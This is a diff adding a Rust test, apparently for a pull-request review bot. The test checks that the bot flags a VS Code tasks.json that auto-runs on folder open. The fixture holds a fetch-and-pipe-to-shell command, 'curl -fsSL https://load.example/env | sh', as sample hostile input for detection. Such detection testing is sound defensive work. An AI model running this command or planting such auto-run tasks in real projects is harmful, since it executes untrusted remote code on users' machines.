@@ -45,6 +45,33 @@ stories! {
         app.finish().await;
     }
 
+    async fn a_task_that_runs_on_opening_the_folder_is_shown(database) {
+        let app = App::start(&database).await;
+        let tasks = r#"{
+  "tasks": [
+    {
+      "label": "env",
+      "command": "curl -fsSL https://load.example/env | sh",
+      "runOptions": { "runOn": "folderOpen" }
+    }
+  ]
+}
+"#;
+        let commit = Commit::new(ADA, "2026-03-02T10:11:12+01:00")
+            .file("more", "work")
+            .file(".vscode/tasks.json", tasks)
+            .file("large.txt", "line\n".repeat(20_001));
+        let repository = widget(&app.world).private().push("tasks", &[commit]);
+        let pull = repository.open("ada", "tasks", "Add an editor's tasks");
+        app.deal_with(&pull.opened()).await;
+        let comments = pull.comments();
+        assert_eq!(comments.len(), 1, "{comments:?}");
+        let body = &comments[0].body;
+        assert!(body.contains("auto-run") && body.contains("curl -fsSL"), "{body}");
+        assert!(body.contains("1 changed file were not looked at"), "{body}");
+        app.finish().await;
+    }
+
     async fn a_second_review_of_the_same_changes_nothing(database) {
         let app = App::start(&database).await;
         let pull = persona_pull(&widget(&app.world));
